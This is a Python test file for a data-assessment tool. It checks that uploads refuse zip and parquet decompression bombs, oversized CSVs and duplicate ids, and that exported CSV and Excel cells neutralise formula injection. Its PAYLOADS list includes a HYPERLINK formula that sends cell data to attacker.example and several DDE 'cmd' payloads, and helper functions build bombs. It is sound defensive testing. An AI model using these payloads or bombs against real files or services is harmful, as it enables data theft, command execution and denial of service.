"""Hostile files on every path that reads or writes one (security review 2026-11-30, issue #10).

The files are made here, at test time, with the recipes of the review's probe scripts
(``mkbombs.py``, ``mkdup.py``, ``mkfiles.py``): zip bombs, repeated question ids, parquet and CSV
bombs, UTF-16 and Latin-1 text, formula payloads.
"""

from __future__ import annotations

import csv
import io
import time
import zipfile
from dataclasses import replace

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import SAMPLES, TODAY

from zpd_assess.assess import Steps, assess, assess_engagement, decisions_pool
from zpd_assess.cli import main
from zpd_assess.decisions import Decisions, apply_plan_edits
from zpd_assess.evidence import EvidenceError, read_table
from zpd_assess.intake import InventoryError, load_inventory
from zpd_assess.plan_edits import PlanEdits, read_plan_edits
from zpd_assess.workbook import plan_workbook

# The payloads of the review (section 2), as mkfiles.py wrote them.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
RISKY_FIRST = set("=+-@＝＋－＠")


def _looks_like_formula(text: str) -> bool:
    return text[:1] in ("\t", "\r", "\n") or text.lstrip()[:1] in RISKY_FIRST


# --- an exported plan to edit -------------------------------------------------------------------


@pytest.fixture(scope="module")
def urban(catalog, mapper):
    intake = load_inventory(SAMPLES / "urban_retail" / "inventory.xlsx", catalog, today=TODAY)
    a = assess(intake, catalog, mapper=mapper)
    return intake, a, plan_workbook(a, catalog, "en", today=TODAY)


def _edit(data: bytes, rows: list[dict[str, object]], delete: str | None = None) -> bytes:
    """mkdup.py: append rows (by column header) to the Question plan sheet of an exported plan."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["Question plan"]
    col = {c.value: i + 1 for i, c in enumerate(ws[1])}
    if delete is not None:
        ids = [ws.cell(r, col["Question id"]).value for r in range(1, ws.max_row + 1)]
        ws.delete_rows(ids.index(delete) + 1)
    r = ws.max_row + 1
    for k, row in enumerate(rows):
        for header, value in row.items():
            ws.cell(r + k, col[header]).value = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _plan_sheet(rows: int, catalog, cols: int = 20) -> bytes:
    """mkbombs.py: a Question plan sheet whose body is ``rows`` rows of ``cols`` numbers."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Question plan"
    ws.append([catalog.text(k, "en") for k in ("col.rank", "col.question_id", "col.question_en")])
    base = io.BytesIO()
    wb.save(base)
    src = zipfile.ZipFile(base)
    sheet = src.read("xl/worksheets/sheet1.xml").decode()
    head, tail = sheet.split("</sheetData>")
    row = "<row>" + '<c t="n"><v>1</v></c>' * cols + "</row>"
    big = (head + row * rows + "</sheetData>" + tail).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=6) as z:
        for item in src.infolist():
            name = item.filename
            z.writestr(name, big if name == "xl/worksheets/sheet1.xml" else src.read(name))
    return out.getvalue()


# --- plan workbook import -----------------------------------------------------------------------


def test_a_plan_zip_bomb_is_refused_before_openpyxl_parses_it(catalog, urban):
    bomb = _plan_sheet(30_000, catalog)  # 600,000 cells, inflates 170 times
    assert len(bomb) < 1_000_000
    started = time.perf_counter()
    with pytest.raises(InventoryError) as caught:
        read_plan_edits(bomb, catalog, urban[1].plan)
    assert time.perf_counter() - started < 2.0, "refused unopened"
    message = caught.value.errors[0].message_en
    assert "zip bomb" in message and "xl/worksheets/sheet1.xml" in message, message
    assert caught.value.errors[0].message_he


@pytest.mark.slow
def test_a_plan_sheet_with_thousands_of_rows_is_refused(catalog, urban):
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Question plan")
    keys = ("col.rank", "col.question_id", "col.question_en", "col.topics")
    ws.append([catalog.text(k, "en") for k in keys])
    for i in range(6_000):
        ws.append([i, f"x_{i}", f"Question number {i} about hobbies", "hobbies"])
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(InventoryError) as caught:
        read_plan_edits(out.getvalue(), catalog, urban[1].plan)
    message = caught.value.errors[0].message_en
    assert "5,000" in message, message


def test_an_oversized_plan_file_is_refused_by_size(catalog, urban):
    data = urban[2] + b"\0" * (26 * 2**20)  # a real workbook padded past the upload limit
    with pytest.raises(InventoryError) as caught:
        read_plan_edits(data, catalog, urban[1].plan)
    assert "25 MB" in caught.value.errors[0].message_en


@pytest.mark.slow
def test_two_new_rows_with_one_id_no_longer_brick_the_plan(catalog, mapper, urban):
    intake, a, data = urban
    texts = ["dup id row", "dup id row again"]
    edited = _edit(data, [{"Rank": k + 1, "Question (English)": t, "Question id": "team_dup",
                           "Topics": "hobbies"} for k, t in enumerate(texts)])  # fmt: skip
    edits = read_plan_edits(edited, catalog, a.plan)
    ids = [row["question_id"] for row in edits.added]
    assert len(ids) == 2 and len(set(ids)) == 2 and ids[0] == "team_dup"
    assert ids[1] not in a.plan.questions.index
    renamed = [c for c in edits.changes if c.kind == "change_added_renamed"]
    assert [(c.value, c.accepted) for c in renamed] == [(ids[1], "team_dup")]
    assert ids[1] in renamed[0].message_en and "team_dup" in renamed[0].message_he

    decisions = apply_plan_edits(Decisions(), edits, catalog)
    assert decisions_pool(catalog, decisions).index.is_unique
    result = assess_engagement(intake, catalog, decisions, steps=Steps(mapper))
    assert [result.plan.questions.at[q, "text_en"] for q in ids] == texts
    again = plan_workbook(result, catalog, "en")
    assert again[:2] == b"PK"


def test_a_copied_row_with_an_existing_id_becomes_a_new_question(catalog, urban):
    _, a, data = urban
    q = a.plan.questions
    qid = q.index[0]
    edited = _edit(data, [{"Rank": 1, "Question id": qid, "Topics": "hobbies",
                           "Question (English)": "copy of row 2 with a new wording"}])  # fmt: skip
    edits = read_plan_edits(edited, catalog, a.plan)
    assert qid not in edits.wording, "the original question keeps its wording"
    [added] = edits.added
    assert added["question_id"] != qid and added["question_id"] not in q.index
    assert added["text_en"] == "copy of row 2 with a new wording"
    pool = decisions_pool(catalog, apply_plan_edits(Decisions(), edits, catalog))
    assert pool.index.is_unique
    assert pool.at[qid, "text_en"] == q.at[qid, "text_en"]


@pytest.mark.slow
def test_a_new_row_never_takes_the_id_of_a_question_already_in_the_engagement(
    catalog, mapper, urban
):
    intake, a, data = urban
    own = [{"Rank": 1, "Question (English)": "first own question", "Topics": "hobbies"}]
    first = read_plan_edits(_edit(data, own), catalog, a.plan)
    decisions = apply_plan_edits(Decisions(), first, catalog)
    assert "team_01" in decisions_pool(catalog, decisions).index
    plan = assess_engagement(intake, catalog, decisions, steps=Steps(mapper)).plan
    # the next round: the plan holds team_01; a bank question is not in this plan
    bank = catalog.questions.index[0]
    plan = replace(plan, questions=plan.questions.drop(index=bank))
    rows = [
        {"Rank": 2, "Question (English)": "second own question", "Topics": "hobbies"},
        {
            "Rank": 3,
            "Question (English)": "reuses a bank id",
            "Question id": bank,
            "Topics": "hobbies",
        },
    ]
    second = read_plan_edits(_edit(data, rows, delete=bank), catalog, plan)
    ids = [row["question_id"] for row in second.added]
    assert "team_01" not in ids and bank not in ids and len(set(ids)) == 2
    assert not set(ids) & set(catalog.questions.index)
    pool2 = decisions_pool(catalog, apply_plan_edits(decisions, second, catalog))
    assert pool2.index.is_unique
    assert pool2.at["team_01", "text_en"] == "first own question"
    assert pool2.at[bank, "text_en"] == catalog.questions.at[bank, "text_en"]


def test_apply_plan_edits_never_makes_a_pool_with_repeated_ids(catalog):
    rows = tuple(
        {"question_id": "x", "text_en": f"question {i}", "topics": ["hobbies"]} for i in range(3)
    )
    edits = PlanEdits(added=rows, order=("x", "x", "x"))
    decisions = apply_plan_edits(Decisions(), edits, catalog)
    pool = decisions_pool(catalog, decisions)
    assert pool.index.is_unique
    room = pool.loc[[i for i in pool.index if i.startswith("x")]]
    assert sorted(room["text_en"]) == ["question 0", "question 1", "question 2"]
    assert set(decisions.pinned) == set(room.index)


# --- evidence uploads ---------------------------------------------------------------------------


def _parquet_bomb(path, rows: int) -> None:
    """mkbombs-style parquet: a constant int64 column compresses to a few KB with zstd."""
    chunk = pa.table({"customer_id": pa.array([7] * 1_000_000, pa.int64())})
    with pq.ParquetWriter(path, chunk.schema, compression="zstd") as writer:
        for _ in range(rows // 1_000_000):
            writer.write_table(chunk, row_group_size=1_000_000)


def test_a_parquet_bomb_is_refused_from_its_metadata(tmp_path):
    path = tmp_path / "bomb.parquet"
    _parquet_bomb(path, 50_000_000)
    assert path.stat().st_size < 2_000_000
    started = time.perf_counter()
    with pytest.raises(EvidenceError) as caught:
        read_table(path.read_bytes(), "bomb.parquet")
    assert time.perf_counter() - started < 2.0, "refused unopened"
    message = str(caught.value)
    assert "50,000,000 rows" in message and "2,000,000" in message, message


def test_a_parquet_that_inflates_past_the_limit_is_refused(tmp_path):
    from zpd_assess.filesafety import EvidenceLimits

    path = tmp_path / "wide.parquet"
    pq.write_table(pa.table({"v": pa.array(range(200_000), pa.int64())}), path)
    with pytest.raises(EvidenceError) as caught:
        read_table(path, limits=EvidenceLimits(max_uncompressed_bytes=2**20))
    assert "1 MB" in str(caught.value), str(caught.value)
    assert read_table(path).num_rows == 200_000


def test_a_huge_csv_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "huge.csv"
    with path.open("wb") as f:  # sparse: 250 MB that take no disk and no time
        f.write(b"customer_id,age\n")
        f.truncate(250 * 2**20)
    with pytest.raises(EvidenceError) as caught:
        read_table(path)
    message = str(caught.value)
    assert "250.0 MB" in message and "200 MB" in message, message


def test_a_csv_with_millions_of_rows_is_refused(tmp_path):
    data = b"customer_id\n" + b"1\n" * 2_100_000
    with pytest.raises(EvidenceError) as caught:
        read_table(data, "many.csv")
    assert "2,000,000" in str(caught.value), str(caught.value)
    assert read_table(b"customer_id\n" + b"1\n" * 1000, "ok.csv").num_rows == 1000


# --- inventory text encodings -------------------------------------------------------------------

INVENTORY_TEXT = (
    "attribute\tparty\tcoverage\tdescription\n"
    "תאריך לידה\tfirst\t0.5\tתאריך הלידה של הלקוח\n"
    "email\tfirst\t0.9\tכתובת דוא״ל\n"
)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_text_from_excel_is_read(catalog, encoding):
    data = INVENTORY_TEXT.encode(encoding)
    if encoding != "utf-16":  # Excel's "Unicode text" starts with a byte order mark
        data = ("\ufeff" + INVENTORY_TEXT).encode(encoding)
    result = load_inventory(data, catalog, name="unicode.txt", today=TODAY)
    assert list(result.inventory["attribute"]) == ["תאריך לידה", "email"]
    assert result.inventory["description"].iloc[1] == "כתובת דוא״ל"
    assert result.encoding == "UTF-16"
    assert not [w for w in result.warnings if w.kind.startswith("encoding")]


def test_latin1_read_as_windows_1255_is_flagged_as_garbled(catalog):
    text = "attribute,party,coverage,description\nvisits,first,0.5,Visits to the café\n"
    result = load_inventory(text.encode("latin-1"), catalog, name="latin.csv", today=TODAY)
    [warning] = [w for w in result.warnings if w.kind == "encoding_garbled"]
    assert warning.row == 2 and warning.column == "D (description)"
    assert "cafי" in warning.message_en and "UTF-8" in warning.message_en
    assert "UTF-8" in warning.message_he


def test_real_windows_1255_hebrew_is_not_flagged_as_garbled(catalog):
    text = "attribute,party,coverage,description\nשם,first,0.5,שם הלקוח ב-CRM\n"
    result = load_inventory(text.encode("cp1255"), catalog, name="he.csv", today=TODAY)
    assert [w.kind for w in result.warnings if w.kind.startswith("encoding")] == ["encoding"]


# --- CSV and Excel outputs ----------------------------------------------------------------------


def test_neutralise_text():
    from zpd_assess.filesafety import neutralise_text

    for text in PAYLOADS:
        assert neutralise_text(text) == "'" + text
    for text in ("hello", "", "2+3", "a=b", "תאריך", "'=already"):
        assert neutralise_text(text) == text


@pytest.mark.slow
def test_map_out_csv_cannot_carry_a_formula(tmp_path):
    src = tmp_path / "map_in.csv"
    with src.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["attribute", "description", "owner"])
        for i, p in enumerate(PAYLOADS):
            writer.writerow([p if i % 2 else f"{p} r{i}", p, p])
    out = tmp_path / "mapped.csv"
    assert main(["map", str(src), "--out", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(PAYLOADS)
    for i, (row, p) in enumerate(zip(rows, PAYLOADS, strict=True)):
        assert row["description"] == "'" + p and row["owner"] == "'" + p
        assert row["attribute"] == "'" + (p if i % 2 else f"{p} r{i}")
        assert not any(_looks_like_formula(v) for v in row.values()), row


def test_the_workbook_quote_prefixes_full_width_formulas(catalog, mapper):
    hostile = ["＝1+1", "＋SUM(1)", "－2+3", "＠cmd", "=1+1"]
    lines = ["attribute,party,coverage,description"]
    lines += [f"attr_{i},first,0.5,{text}" for i, text in enumerate(hostile)]
    intake = load_inventory("\n".join(lines).encode(), catalog, name="fw.csv", today=TODAY)
    out = plan_workbook(assess(intake, catalog, mapper=mapper), catalog, "en", today=TODAY)
    ws = openpyxl.load_workbook(io.BytesIO(out))["Inventory"]
    cells = {ws.cell(r, 5).value: ws.cell(r, 5) for r in range(2, 2 + len(hostile))}
    for text in hostile:
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
